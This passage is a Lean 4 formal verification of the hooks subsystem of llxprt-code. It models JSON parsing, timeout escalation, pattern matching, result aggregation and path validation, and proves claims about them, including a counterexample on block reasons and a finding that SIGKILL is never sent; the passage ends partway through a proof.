import Mathlib

/-!
Verification of the hooks subsystem of `llxprt-code`
(`packages/core/src/hooks/hook-executor.ts`, `hook-utils.ts`, `hook-types.ts`).

The TypeScript source is shallowly embedded as executable Lean definitions:
JavaScript's dynamically typed JSON values become the inductive `Json`,
`undefined` becomes `none` in an `Option`, thrown exceptions become
`Except`/`Option` results, and the timer/child-process callbacks of
`executeCommand` become an explicit step function on a process state.
JavaScript truthiness (`if (x)`) is modelled by explicit `jsTruthy` helpers.
-/

set_option autoImplicit false
set_option maxRecDepth 4000

namespace Hooks

/-- A JSON value as produced by `JSON.parse`.  Numbers keep their source
literal (their numeric value is never consumed by this subsystem beyond
truthiness, which only needs zero-ness of the literal). -/
inductive Json where
  | null : Json
  | bool (b : Bool) : Json
  | num (lit : String) : Json
  | str (s : String) : Json
  | arr (elems : List Json) : Json
  | obj (fields : List (String × Json)) : Json

/-- JavaScript truthiness of a JSON value: `null`, `false`, numeric zero and
the empty string are falsy; arrays and objects are always truthy.  A JSON
numeric literal denotes zero exactly when all of its digits are `0`. -/
def jsTruthy : Json → Bool
  | .null => false
  | .bool b => b
  | .num lit =>
    !((lit.data.takeWhile fun c => c != 'e' && c != 'E').all fun c => !c.isDigit || c == '0')
  | .str s => s != ""
  | .arr _ => true
  | .obj _ => true

/-- Property lookup on a JSON value, as JavaScript member access: objects
yield the value of the (last, as `JSON.parse` keeps the last duplicate key)
matching key, everything else yields `undefined` (`none`). -/
def Json.getField : Json → String → Option Json
  | .obj fields, key => fields.foldl (fun acc p => if p.1 == key then some p.2 else acc) none
  | _, _ => none

/-- `undefined`-propagating truthiness, as in `x && ...` on an optional value. -/
def jsOptTruthy : Option Json → Bool
  | some j => jsTruthy j
  | none => false

/-- Is the optional JSON value exactly the given string (JS `=== 'lit'`)? -/
def isStrVal : Option Json → String → Bool
  | some (.str s), t => s == t
  | _, _ => false

/-- Is the optional JSON value exactly `false` (JS `=== false`)? -/
def isFalseVal : Option Json → Bool
  | some (.bool false) => true
  | _ => false

/-- Is the JSON value an object? -/
def Json.isObj : Json → Bool
  | .obj _ => true
  | _ => false

/-! ### A model of `JSON.parse`

`JSON.parse` is the JavaScript platform's JSON reader: it accepts exactly one
JSON value with optional surrounding whitespace and throws on anything else.
It is modelled as a fuel-indexed recursive-descent reader returning `none`
where `JSON.parse` throws. -/

/-- The whitespace characters of the JSON grammar. -/
def jsonWs (c : Char) : Bool := c == ' ' || c == '\t' || c == '\n' || c == '\r'

/-- Drop leading JSON whitespace. -/
def skipWs (cs : List Char) : List Char := cs.dropWhile jsonWs

/-- Does the list start with the given characters? -/
def leadsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && leadsWith as bs

/-- Does the first list occur as a contiguous sublist of the second? -/
def hasSub (needle : List Char) : List Char → Bool
  | [] => leadsWith needle []
  | c :: t => leadsWith needle (c :: t) || hasSub needle t

/-- Substring test on strings (JS `String.prototype.includes`). -/
def strContains (hay needle : String) : Bool := hasSub needle.data hay.data

/-- Expect a literal character sequence, returning the remainder. -/
def parseLit (lit cs : List Char) : Option (List Char) :=
  if leadsWith lit cs then some (cs.drop lit.length) else none

/-- Value of a hexadecimal digit. -/
def hexVal (c : Char) : Option Nat :=
  if '0' ≤ c ∧ c ≤ '9' then some (c.toNat - '0'.toNat)
  else if 'a' ≤ c ∧ c ≤ 'f' then some (c.toNat - 'a'.toNat + 10)
  else if 'A' ≤ c ∧ c ≤ 'F' then some (c.toNat - 'A'.toNat + 10)
  else none

/-- Read the body of a JSON string literal after its opening quote, decoding
escapes; returns the decoded characters and the remainder past the closing
quote. -/
def parseStringRest : Nat → List Char → Option (List Char × List Char)
  | 0, _ => none
  | _ + 1, [] => none
  | fuel + 1, c :: cs =>
    if c == '"' then some ([], cs)
    else if c == '\\' then
      match cs with
      | [] => none
      | e :: cs2 =>
        let cont : Char → List Char → Option (List Char × List Char) := fun ch rest =>
          match parseStringRest fuel rest with
          | some (out, rem) => some (ch :: out, rem)
          | none => none
        if e == '"' then cont '"' cs2
        else if e == '\\' then cont '\\' cs2
        else if e == '/' then cont '/' cs2
        else if e == 'b' then cont '\x08' cs2
        else if e == 'f' then cont '\x0c' cs2
        else if e == 'n' then cont '\n' cs2
        else if e == 'r' then cont '\r' cs2
        else if e == 't' then cont '\t' cs2
        else if e == 'u' then
          match cs2 with
          | h1 :: h2 :: h3 :: h4 :: cs3 =>
            match hexVal h1, hexVal h2, hexVal h3, hexVal h4 with
            | some a, some b, some c2, some d =>
              cont (Char.ofNat (((a * 16 + b) * 16 + c2) * 16 + d)) cs3
            | _, _, _, _ => none
          | _ => none
        else none
    else if c.toNat < 0x20 then none
    else
      match parseStringRest fuel cs with
      | some (out, rem) => some (c :: out, rem)
      | none => none

/-- Split off a maximal run of decimal digits. -/
def digitsSplit (cs : List Char) : List Char × List Char :=
  (cs.takeWhile Char.isDigit, cs.dropWhile Char.isDigit)

/-- Optional fraction part of a JSON number. -/
def parseFrac : List Char → Option (List Char × List Char)
  | '.' :: t =>
    match digitsSplit t with
    | ([], _) => none
    | (ds, r) => some ('.' :: ds, r)
  | cs => some ([], cs)

/-- Optional exponent part of a JSON number. -/
def parseExp : List Char → Option (List Char × List Char)
  | c :: t =>
    if c == 'e' || c == 'E' then
      let sgn := match t with
        | s :: tt => if s == '+' || s == '-' then ([s], tt) else ([], t)
        | [] => ([], t)
      match digitsSplit sgn.2 with
      | ([], _) => none
      | (ds, r) => some (c :: (sgn.1 ++ ds), r)
    else some ([], c :: t)
  | [] => some ([], [])

/-- Read a JSON number literal; returns its source text and the remainder. -/
def parseNumber (cs : List Char) : Option (String × List Char) :=
  let sgn : List Char × List Char := match cs with
    | '-' :: t => (['-'], t)
    | _ => ([], cs)
  match sgn.2 with
  | '0' :: t => do
    let fr ← parseFrac t
    let ex ← parseExp fr.2
    pure (String.mk (sgn.1 ++ '0' :: (fr.1 ++ ex.1)), ex.2)
  | c :: t =>
    if c.isDigit then do
      let ds := digitsSplit (c :: t)
      let fr ← parseFrac ds.2
      let ex ← parseExp fr.2
      pure (String.mk (sgn.1 ++ ds.1 ++ fr.1 ++ ex.1), ex.2)
    else none
  | [] => none

mutual

/-- Read one JSON value (with leading whitespace). -/
def parseVal : Nat → List Char → Option (Json × List Char)
  | 0, _ => none
  | fuel + 1, cs0 =>
    match skipWs cs0 with
    | [] => none
    | c :: rest =>
      if c == 'n' then
        match parseLit ['u', 'l', 'l'] rest with
        | some r => some (.null, r)
        | none => none
      else if c == 't' then
        match parseLit ['r', 'u', 'e'] rest with
        | some r => some (.bool true, r)
        | none => none
      else if c == 'f' then
        match parseLit ['a', 'l', 's', 'e'] rest with
        | some r => some (.bool false, r)
        | none => none
      else if c == '"' then
        match parseStringRest (rest.length + 1) rest with
        | some (out, r) => some (.str (String.mk out), r)
        | none => none
      else if c == '[' then
        match skipWs rest with
        | ']' :: r => some (.arr [], r)
        | _ =>
          match parseArrItems fuel rest with
          | some (vs, r) => some (.arr vs, r)
          | none => none
      else if c == '\x7b' then
        match skipWs rest with
        | '\x7d' :: r => some (.obj [], r)
        | _ =>
          match parseObjItems fuel rest with
          | some (fs, r) => some (.obj fs, r)
          | none => none
      else
        match parseNumber (c :: rest) with
        | some (lit, r) => some (.num lit, r)
        | none => none

/-- Read the comma-separated elements of a non-empty JSON array, up to and
including the closing bracket. -/
def parseArrItems : Nat → List Char → Option (List Json × List Char)
  | 0, _ => none
  | fuel + 1, cs =>
    match parseVal fuel cs with
    | none => none
    | some (v, r1) =>
      match skipWs r1 with
      | ',' :: r2 =>
        match parseArrItems fuel r2 with
        | some (vs, r3) => some (v :: vs, r3)
        | none => none
      | ']' :: r2 => some ([v], r2)
      | _ => none

/-- Read the comma-separated members of a non-empty JSON object, up to and
including the closing brace. -/
def parseObjItems : Nat → List Char → Option (List (String × Json) × List Char)
  | 0, _ => none
  | fuel + 1, cs =>
    match skipWs cs with
    | '"' :: r =>
      match parseStringRest (r.length + 1) r with
      | none => none
      | some (key, r1) =>
        match skipWs r1 with
        | ':' :: r2 =>
          match parseVal fuel r2 with
          | none => none
          | some (v, r3) =>
            match skipWs r3 with
            | ',' :: r4 =>
              match parseObjItems fuel r4 with
              | some (fs, r5) => some ((String.mk key, v) :: fs, r5)
              | none => none
            | '\x7d' :: r4 => some ([(String.mk key, v)], r4)
            | _ => none
        | _ => none
    | _ => none

end

/-- Model of `JSON.parse`: exactly one JSON value, optionally surrounded by
whitespace; `none` models a thrown `SyntaxError`. -/
def parseJson (s : String) : Option Json :=
  match parseVal (s.length + 2) s.data with
  | some (v, rest) => if (skipWs rest).isEmpty then some v else none
  | none => none

/-! ### Data model (`hook-types.ts`) -/

/-- The seven lifecycle event names (`HOOK_EVENTS`). -/
inductive HookEventName where
  | userPromptSubmit
  | preToolUse
  | postToolUse
  | stop
  | subagentStop
  | notification
  | preCompact
deriving DecidableEq

/-- `HookCommand`: one external program invocation.  The TS interface also
carries a constant discriminator `type: 'command'`, which no code in the
subsystem reads; it is omitted.  `timeout` is in seconds, `none` when the
configuration leaves it unspecified. -/
structure HookCommand where
  command : String
  timeout : Option Int := none

/-- `HookMatcher`: an optional tool-name pattern plus its hook commands. -/
structure HookMatcher where
  matcher : Option String := none
  hooks : List HookCommand

/-- `HookConfig`: mapping from event name to its matcher list (`none` models
an absent key). -/
def HookConfig := HookEventName → Option (List HookMatcher)

/-- `HookResult`: outcome of one command.  `jsonOutput` is the raw value
`JSON.parse` produced from stdout (the source performs no shape check), or
`none` when stdout was empty or unparseable.  The `Error` object of a spawn
failure is abstracted to its presence. -/
structure HookResult where
  success : Bool
  exitCode : Int
  stdout : String
  stderr : String
  timedOut : Bool
  errored : Bool := false
  jsonOutput : Option Json := none

/-- `HookExecutionResult`: the aggregate over all results of one dispatch.
`blockReason`/`stopReason` hold whatever JSON value the source assigned
(a string in the intended protocol); `none` models `undefined`. -/
structure HookExecutionResult where
  results : List HookResult
  shouldBlock : Bool
  blockReason : Option Json
  shouldContinue : Bool
  stopReason : Option Json
  contextToAdd : List Json

/-! ### Process Runner packaging (`hook-executor.ts`, `executeCommand`) -/

/-- The whitespace trimmed by JavaScript `String.prototype.trim` (the
characters that can occur in this subsystem's data). -/
def jsWsChar (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Model of JS `String.prototype.trim`. -/
def jsTrim (s : String) : String :=
  String.mk (((s.data.dropWhile jsWsChar).reverse.dropWhile jsWsChar).reverse)

/-- `HookExecutor.DEFAULT_TIMEOUT` (seconds). -/
def DEFAULT_TIMEOUT : Int := 60

/-- JS `a || b` on an optional number: the default is used when the value is
absent (`undefined`) or falsy (`0`). -/
def jsNumOr (v : Option Int) (d : Int) : Int :=
  match v with
  | some t => if t == 0 then d else t
  | none => d

/-- `timeoutSeconds` as computed by `executeCommand`:
`command.timeout || HookExecutor.DEFAULT_TIMEOUT`. -/
def timeoutSecondsOf (command : HookCommand) : Int :=
  jsNumOr command.timeout DEFAULT_TIMEOUT

/-- The duration the first timeout timer is armed for, in milliseconds
(`timeoutMs = timeoutSeconds * 1000`). -/
def timeoutMsOf (command : HookCommand) : Int :=
  timeoutSecondsOf command * 1000

/-- The `close`-handler packaging of `executeCommand`: trim both streams,
default a missing OS exit code to `-1`, and try `JSON.parse` on the trimmed
stdout, silently leaving `jsonOutput` absent when stdout is empty or parsing
throws. -/
def makeHookResult (exitCode : Option Int) (stdoutRaw stderrRaw : String)
    (timedOut : Bool) (errored : Bool) : HookResult :=
  let stdout := jsTrim stdoutRaw
  let jsonOutput := if stdout != "" then parseJson stdout else none
  { success := exitCode == some 0
    exitCode := exitCode.getD (-1)
    stdout := stdout
    stderr := jsTrim stderrRaw
    timedOut := timedOut
    errored := errored
    jsonOutput := jsonOutput }

/-! ### Timeout escalation (`executeCommand`, timer callbacks)

The two `setTimeout` callbacks and the `close` handler are embedded as a step
function on an explicit process state.  `killed` is Node's
`ChildProcess.killed` flag: it becomes `true` as soon as `kill()` has
successfully *sent* a signal, whether or not the process has exited. -/

structure ProcState where
  timedOut : Bool
  killed : Bool
  exited : Bool
  sigtermSent : Bool
  sigkillSent : Bool
  outerArmed : Bool
  innerArmed : Bool
deriving DecidableEq

/-- State right after `spawn`: the `timeoutMs` timer is armed, nothing else
has happened. -/
def spawnState : ProcState :=
  { timedOut := false, killed := false, exited := false,
    sigtermSent := false, sigkillSent := false,
    outerArmed := true, innerArmed := false }

/-- The observable events of one execution: the first timer fires, the 5000 ms
grace timer fires, or the child process closes. -/
inductive HookEvent where
  | timeoutFires
  | graceFires
  | processCloses

/-- One event-loop step, translated from the source callbacks:
the first timer sets `timedOut`, sends `SIGTERM` (which sets `killed`) and
arms the 5000 ms timer; the grace timer sends `SIGKILL` only under the
source's guard `if (!child.killed)`; the `close` handler runs
`clearTimeout(timeoutId)` — it cancels only the first timer. -/
def procStep (s : ProcState) (e : HookEvent) : ProcState :=
  match e with
  | .timeoutFires =>
    if s.outerArmed && !s.exited then
      { s with timedOut := true, sigtermSent := true, killed := true,
               outerArmed := false, innerArmed := true }
    else s
  | .graceFires =>
    if s.innerArmed then
      if !s.killed then
        { s with sigkillSent := true, killed := true, innerArmed := false }
      else { s with innerArmed := false }
    else s
  | .processCloses => { s with exited := true, outerArmed := false }

/-- Run the process lifecycle from the spawn state over a sequence of events. -/
def procRun (events : List HookEvent) : ProcState :=
  events.foldl procStep spawnState

/-! ### Matcher (`matchesPattern`) -/

/-- JS truthiness of an optional string (`!x` is true for `undefined` and for
the empty string). -/
def jsStrTruthy : Option String → Bool
  | none => false
  | some s => s != ""

/-- `HookExecutor.matchesPattern`.  `new RegExp`/`RegExp.test` is the
JavaScript platform's regular-expression engine; it is abstracted as a
`compile` oracle returning the compiled test function, or `none` where the
constructor throws — the source's `catch` then falls back to exact string
equality. -/
def matchesPattern (compile : String → Option (String → Bool))
    (hookMatcher : HookMatcher) (toolName : Option String) : Bool :=
  if !jsStrTruthy hookMatcher.matcher then true
  else if !jsStrTruthy toolName then false
  else
    let pattern := hookMatcher.matcher.getD ""
    let tn := toolName.getD ""
    match compile pattern with
    | some test => test tn
    | none => pattern == tn

/-! ### Aggregator (`executeHooks`, result-processing loop) -/

/-- The mutable accumulator of `executeHooks`' result loop. -/
structure AggState where
  shouldBlock : Bool := false
  blockReason : Option Json := none
  shouldContinue : Bool := true
  stopReason : Option Json := none
  contextToAdd : List Json := []

def initAgg : AggState := {}

/-- `suppressOutput` lookup `result.jsonOutput?.suppressOutput` (optional
chaining: absent or non-object values yield `undefined`). -/
def jsonSuppress (result : HookResult) : Option Json :=
  match result.jsonOutput with
  | some j => j.getField "suppressOutput"
  | none => none

/-- First block of the result-processing loop (source lines 66–70):
`exitCode === 2` with truthy `stderr` is the hard-block signal. -/
def stepExit2 (result : HookResult) (s : AggState) : AggState :=
  if result.exitCode == 2 && result.stderr != "" then
    { s with shouldBlock := true, blockReason := some (.str result.stderr) }
  else s

/-- Second block (source lines 72–88): the structured-output branch, guarded
by the truthiness of `result.jsonOutput`, destructuring `decision`,
`reason`, `continue`, `stopReason` and `context` with JS member access. -/
def stepStructured (result : HookResult) (s : AggState) : AggState :=
  match result.jsonOutput with
  | some j =>
    if jsTruthy j then
      let sa :=
        if isStrVal (j.getField "decision") "block" then
          { s with shouldBlock := true, blockReason := j.getField "reason" }
        else s
      let sb :=
        if isFalseVal (j.getField "continue") then
          { sa with shouldContinue := false, stopReason := j.getField "stopReason" }
        else sa
      if jsOptTruthy (j.getField "context") && result.exitCode == 0 then
        { sb with contextToAdd := sb.contextToAdd ++ [(j.getField "context").getD .null] }
      else sb
    else s
  | none => s

/-- Third block (source lines 90–93): stdout of a successful hook becomes
context unless structured output set a truthy `suppressOutput`. -/
def stepStdout (result : HookResult) (s : AggState) : AggState :=
  if result.exitCode == 0 && result.stdout != "" && !jsOptTruthy (jsonSuppress result) then
    { s with contextToAdd := s.contextToAdd ++ [.str result.stdout] }
  else s

/-- One iteration of the result-processing loop of `executeHooks`
(source lines 65–94): the three blocks in source order. -/
def aggStep (s : AggState) (result : HookResult) : AggState :=
  stepStdout result (stepStructured result (stepExit2 result s))

/-- Does this result carry a structured block decision
(`jsonOutput` with `decision === 'block'`)? -/
def jsonBlockSignal (result : HookResult) : Bool :=
  match result.jsonOutput with
  | some j => isStrVal (j.getField "decision") "block"
  | none => false

/-- Does this result carry any blocking signal: exit code 2 with non-empty
stderr, or a structured block decision? -/
def blockSignal (result : HookResult) : Bool :=
  (result.exitCode == 2 && result.stderr != "") || jsonBlockSignal result

/-- Fold a dispatch's ordered result list into the aggregate
(`executeHooks` after the `Promise.all` join). -/
def processResults (results : List HookResult) : HookExecutionResult :=
  let s := results.foldl aggStep initAgg
  { results := results
    shouldBlock := s.shouldBlock
    blockReason := s.blockReason
    shouldContinue := s.shouldContinue
    stopReason := s.stopReason
    contextToAdd := s.contextToAdd }

/-- `HookExecutor.executeHooks`.  The concurrent execution of the selected
commands is abstracted by the per-command oracle `exec`: `Promise.all`
delivers the results in request order, which is exactly
`commands.map exec`. -/
def executeHooks (compile : String → Option (String → Bool))
    (exec : HookCommand → HookResult)
    (hookConfig : HookConfig) (eventName : HookEventName)
    (matcher : Option String) : HookExecutionResult :=
  let matchers := (hookConfig eventName).getD []
  let selected := matchers.filter fun hm => matchesPattern compile hm matcher
  let commands := selected.flatMap fun hm => hm.hooks
  processResults (commands.map exec)

/-! ### Validator (`hook-utils.ts`) -/

/-- `validateHookSecurity`: structural validation only.  The dynamic
`typeof` checks hold by typing in this embedding; what remains is the
non-empty-command check and the timeout-shape check.  A thrown `Error` is
an `Except.error` carrying its message. -/
def validateHookSecurity (command : HookCommand) : Except String Unit :=
  if command.command == "" then .error "Hook must have a valid command string"
  else
    match command.timeout with
    | some t => if t < 0 then .error "Hook timeout must be a positive number" else .ok ()
    | none => .ok ()

/-- Split a character list at every occurrence of a separator (like JS
`String.prototype.split` with a one-character separator). -/
def splitSlashAux : List Char → List Char → List String
  | [], acc => [String.mk acc.reverse]
  | c :: t, acc =>
    if c == '/' then String.mk acc.reverse :: splitSlashAux t []
    else splitSlashAux t (c :: acc)

/-- The `/`-separated segments of a path string. -/
def pathSegs (s : String) : List String := splitSlashAux s.data []

/-- Join segments with `/` separators. -/
def joinSlash : List String → String
  | [] => ""
  | [s] => s
  | s :: rest => s ++ "/" ++ joinSlash rest

/-- Node's `path.posix.normalize`: resolve `.` and `..` segments, collapse
repeated separators, preserve a trailing separator, return `.` for an empty
result. -/
def posixNormalize (p : String) : String :=
  if p == "" then "."
  else
    let abs := p.data.head? == some '/'
    let trail := p.data.getLast? == some '/'
    let segs := (pathSegs p).filter fun s => s != "" && s != "."
    let stack := segs.foldl (fun st s =>
      if s == ".." then
        if abs then st.dropLast
        else
          match st.getLast? with
          | some l => if l == ".." then st ++ [".."] else st.dropLast
          | none => st ++ [".."]
      else st ++ [s]) []
    let body := joinSlash stack
    if body == "" then (if abs then "/" else if trail then "./" else ".")
    else
      let out := if abs then "/" ++ body else body
      if trail then out ++ "/" else out

/-- `validatePath`: normalize, then reject exactly when the normalized path
still contains the substring `"../"`.  The subsequent
`resolve(process.cwd(), path)` of the source binds a local that is never
used, so it has no observable effect and is not modelled. -/
def validatePath (path : String) : Except String Unit :=
  let normalizedPath := posixNormalize path
  if strContains normalizedPath "../" then .error "Path traversal is not allowed"
  else .ok ()

/-- The spec's notion of a parent-directory traversal segment: some path
segment equals `..`.  Modelled from the spec's words (for comparison with
the source's substring test), not from the source. -/
def specHasTraversalSegment (s : String) : Bool :=
  (pathSegs s).any fun seg => seg == ".."

/-! ### Concrete fixtures used by individual claim theorems -/

/-- The exact stdout of the spec's Scenario D. -/
def scenarioDStdout : String :=
  "\x7b\"decision\":\"block\",\"reason\":\"nope\",\"continue\":false,\"stopReason\":\"policy\"\x7d"

/-- A one-matcher configuration for `PreToolUse` with a single command. -/
def scenarioDConfig : HookConfig := fun e =>
  match e with
  | .preToolUse => some [{ matcher := none, hooks := [{ command := "policycheck" }] }]
  | _ => none

/-- Execution oracle: every command exits 0 printing Scenario D's JSON. -/
def scenarioDExec : HookCommand → HookResult := fun _ =>
  makeHookResult (some 0) scenarioDStdout "" false false

/-- A result that exited 2 with stderr `a`. -/
def resStderrA : HookResult :=
  { success := false, exitCode := 2, stdout := "", stderr := "a", timedOut := false }

/-- A result that exited 2 with stderr `b`. -/
def resStderrB : HookResult :=
  { success := false, exitCode := 2, stdout := "", stderr := "b", timedOut := false }

/-- A result that exited 2 with stderr `blocked` (the spec's Scenario B). -/
def resBlocked : HookResult :=
  { success := false, exitCode := 2, stdout := "", stderr := "blocked", timedOut := false }

/-! ## Helper lemmas about the aggregation fold -/

theorem parseJson_empty : parseJson "" = none := rfl

/-- A JSON value with a field is an object, hence truthy. -/
theorem jsTruthy_of_getField (j : Json) (k : String) (v : Json)
    (h : j.getField k = some v) : jsTruthy j = true := by
  cases j <;> simp_all [Json.getField, jsTruthy]

/-- A structured block decision forces the JSON value to be truthy. -/
theorem jsTruthy_of_decision (j : Json)
    (h : isStrVal (j.getField "decision") "block" = true) : jsTruthy j = true := by
  cases hg : j.getField "decision" with
  | none => rw [hg] at h; exact absurd h (by simp [isStrVal])
  | some v => exact jsTruthy_of_getField j _ v hg

theorem stepExit2_shouldBlock (r : HookResult) (s : AggState) :
    (stepExit2 r s).shouldBlock = (s.shouldBlock || (r.exitCode == 2 && r.stderr != "")) := by
  cases h : (r.exitCode == 2 && r.stderr != "") <;> simp [stepExit2, h]

theorem stepExit2_blockReason_pos (r : HookResult) (s : AggState)
    (h : (r.exitCode == 2 && r.stderr != "") = true) :
    (stepExit2 r s).blockReason = some (.str r.stderr) := by
  simp [stepExit2, h]

theorem stepExit2_blockReason_neg (r : HookResult) (s : AggState)
    (h : (r.exitCode == 2 && r.stderr != "") = false) :
    (stepExit2 r s).blockReason = s.blockReason := by
  simp [stepExit2, h]

theorem stepStructured_shouldBlock (r : HookResult) (s : AggState) :
    (stepStructured r s).shouldBlock = (s.shouldBlock || jsonBlockSignal r) := by
  unfold stepStructured jsonBlockSignal
  cases hj : r.jsonOutput with
  | none => simp
  | some j =>
    simp only []
    cases ht : jsTruthy j with
    | false =>
      cases hd : isStrVal (j.getField "decision") "block" with
      | false => simp
      | true => exact absurd (jsTruthy_of_decision j hd) (by simp [ht])
    | true =>
      cases hd : isStrVal (j.getField "decision") "block" with
      | false =>
        cases hc : isFalseVal (j.getField "continue") <;>
          cases hx : (jsOptTruthy (j.getField "context") && r.exitCode == 0) <;> simp
      | true =>
        cases hc : isFalseVal (j.getField "continue") <;>
          cases hx : (jsOptTruthy (j.getField "context") && r.exitCode == 0) <;> simp

theorem stepStructured_blockReason_neg (r : HookResult) (s : AggState)
    (h : jsonBlockSignal r = false) :
    (stepStructured r s).blockReason = s.blockReason := by
  unfold stepStructured
  cases hj : r.jsonOutput with
  | none => rfl
  | some j =>
    have hd : isStrVal (j.getField "decision") "block" = false := by
      unfold jsonBlockSignal at h; rw [hj] at h; exact h
    simp only []
    cases ht : jsTruthy j with
    | false => simp
    | true =>
      rw [hd]
      cases hc : isFalseVal (j.getField "continue") <;>
        cases hx : (jsOptTruthy (j.getField "context") && r.exitCode == 0) <;> simp

theorem stepStdout_shouldBlock (r : HookResult) (s : AggState) :
    (stepStdout r s).shouldBlock = s.shouldBlock := by
  unfold stepStdout
  cases h : (r.exitCode == 0 && r.stdout != "" && !jsOptTruthy (jsonSuppress r)) <;> simp [h]

theorem stepStdout_blockReason (r : HookResult) (s : AggState) :
    (stepStdout r s).blockReason = s.blockReason := by
  unfold stepStdout
  cases h : (r.exitCode == 0 && r.stdout != "" && !jsOptTruthy (jsonSuppress r)) <;> simp [h]

theorem aggStep_shouldBlock (s : AggState) (r : HookResult) :
    (aggStep s r).shouldBlock = (s.shouldBlock || blockSignal r) := by
  unfold aggStep blockSignal
  rw [stepStdout_shouldBlock, stepStructured_shouldBlock, stepExit2_shouldBlock, Bool.or_assoc]

theorem aggStep_blockReason_neg (s : AggState) (r : HookResult)
    (h : blockSignal r = false) : (aggStep s r).blockReason = s.blockReason := by
  have h2 : (r.exitCode == 2 && r.stderr != "") = false := by
    unfold blockSignal at h; exact (Bool.or_eq_false_iff.mp h).1
  have hb : jsonBlockSignal r = false := by
    unfold blockSignal at h; exact (Bool.or_eq_false_iff.mp h).2
  unfold aggStep
  rw [stepStdout_blockReason, stepStructured_blockReason_neg _ _ hb,
    stepExit2_blockReason_neg _ _ h2]

theorem aggStep_blockReason_pos (s : AggState) (r : HookResult)
    (h2 : r.exitCode = 2) (hs : r.stderr ≠ "") (hb : jsonBlockSignal r = false) :
    (aggStep s r).blockReason = some (.str r.stderr) := by
  unfold aggStep
  rw [stepStdout_blockReason, stepStructured_blockReason_neg _ _ hb,
    stepExit2_blockReason_pos]
  simp [h2, hs]

theorem foldl_aggStep_shouldBlock (l : List HookResult) : ∀ s : AggState,
    (l.foldl aggStep s).shouldBlock = (s.shouldBlock || l.any blockSignal) := by
  induction l with
  | nil => intro s; simp
  | cons r t ih =>
    intro s
    simp only [List.foldl_cons, List.any_cons]
    rw [ih, aggStep_shouldBlock, Bool.or_assoc]

theorem foldl_aggStep_blockReason_none (l : List HookResult)
    (h : ∀ r ∈ l, blockSignal r = false) : ∀ s : AggState,
    (l.foldl aggStep s).blockReason = s.blockReason := by
  induction l with
  | nil => intro s; rfl
  | cons r t ih =>
    intro s
    simp only [List.foldl_cons]
    rw [ih fun x hx => h x (List.mem_cons_of_mem r hx),
      aggStep_blockReason_neg _ _ (h r (List.mem_cons_self r t))]

/-- Pointwise characterisation of the blocking signal. -/
theorem blockSignal_iff (r : HookResult) :
    blockSignal r = true ↔
      (r.exitCode = 2 ∧ r.stderr ≠ "") ∨
        ∃ j, r.jsonOutput = some j ∧ isStrVal (j.getField "decision") "block" = true := by
  unfold blockSignal jsonBlockSignal
  cases hj : r.jsonOutput <;> simp [hj]

/-! ## Claim theorems -/

/-- Claim C1, counterexample to the claim as stated: with two results that
both exited 2 with non-empty stderr (`a` then `b`), `blockReason` ends as the
later stderr `b`, not the earlier `a`, so `blockReason` does not equal the
stderr of every such result. -/
theorem exit2_blockReason_not_every_stderr :
    ¬ (∀ (results : List HookResult), ∀ r ∈ results,
        r.exitCode = 2 → r.stderr ≠ "" →
        (processResults results).shouldBlock = true ∧
          (processResults results).blockReason = some (.str r.stderr)) := by
  intro h
  have hmem : resStderrA ∈ [resStderrA, resStderrB] := by simp
  have hA := h [resStderrA, resStderrB] resStderrA hmem rfl (by decide)
  have hcomp : (processResults [resStderrA, resStderrB]).blockReason = some (.str "b") := rfl
  rcases hA with ⟨-, hbr⟩
  rw [hcomp] at hbr
  injection hbr with h1
  injection h1 with h2
  exact absurd h2 (by decide)

/-- Claim C1, amended: a result with exit code 2 and non-empty stderr always
forces `shouldBlock = true`; its stderr is the final `blockReason` provided
the result itself carries no structured block decision and no later result
carries any blocking signal (later blocking signals overwrite the reason). -/
theorem exit2_blocks_with_stderr_reason (pre post : List HookResult) (r : HookResult)
    (h2 : r.exitCode = 2) (hs : r.stderr ≠ "") (hnb : jsonBlockSignal r = false)
    (hpost : ∀ x ∈ post, blockSignal x = false) :
    (processResults (pre ++ r :: post)).shouldBlock = true ∧
      (processResults (pre ++ r :: post)).blockReason = some (.str r.stderr) := by
  have hsig : blockSignal r = true := by unfold blockSignal; simp [h2, hs]
  constructor
  · show (List.foldl aggStep initAgg (pre ++ r :: post)).shouldBlock = true
    rw [foldl_aggStep_shouldBlock]
    simp [List.any_append, hsig, initAgg]
  · show (List.foldl aggStep initAgg (pre ++ r :: post)).blockReason = some (.str r.stderr)
    rw [List.foldl_append, List.foldl_cons, foldl_aggStep_blockReason_none post hpost,
      aggStep_blockReason_pos _ r h2 hs hnb]

/-- Claim C1, witness: a single exit-2 result with stderr `blocked` yields
`shouldBlock = true` and `blockReason = "blocked"`. -/
theorem exit2_blocks_with_stderr_reason_witness :
    (processResults [resBlocked]).shouldBlock = true ∧
      (processResults [resBlocked]).blockReason = some (.str "blocked") :=
  exit2_blocks_with_stderr_reason [] [] resBlocked rfl (by decide) rfl (by simp)

/-- Claim C2: evaluating the embedded timer callbacks at the failing
scenario — the command times out (first timer fires: `timedOut` is set and
SIGTERM is sent, which sets the `killed` flag) and the process is still
running when the 5000 ms grace timer fires — shows that SIGKILL is never
sent, because the guard `if (!child.killed)` is already false after the
successful SIGTERM; moreover, after a natural exit following the timeout,
the grace timer is still armed (`clearTimeout` cancels only the first
timer). -/
theorem sigkill_never_sent_after_sigterm :
    (procRun [.timeoutFires, .graceFires]).timedOut = true ∧
      (procRun [.timeoutFires, .graceFires]).sigtermSent = true ∧
      (procRun [.timeoutFires, .graceFires]).exited = false ∧
      (procRun [.timeoutFires, .graceFires]).sigkillSent = false ∧
      (procRun [.timeoutFires, .processCloses]).innerArmed = true :=
  ⟨rfl, rfl, rfl, rfl, rfl⟩

/-- Claim C3: `matchesPattern` returns true when no (non-empty) pattern is
configured; returns false when a pattern is configured but no (non-empty)
tool name is supplied; and otherwise equals the compiled-regex test, falling
back to exact string equality when compilation fails.  It is a total
function for every compile oracle, so it never throws. -/
theorem matchesPattern_cases (compile : String → Option (String → Bool))
    (hm : HookMatcher) (tn : Option String) :
    (jsStrTruthy hm.matcher = false → matchesPattern compile hm tn = true) ∧
    (jsStrTruthy hm.matcher = true → jsStrTruthy tn = false →
      matchesPattern compile hm tn = false) ∧
    (∀ p t, hm.matcher = some p → tn = some t →
      jsStrTruthy hm.matcher = true → jsStrTruthy tn = true →
      matchesPattern compile hm tn =
        match compile p with
        | some test => test t
        | none => p == t) := by
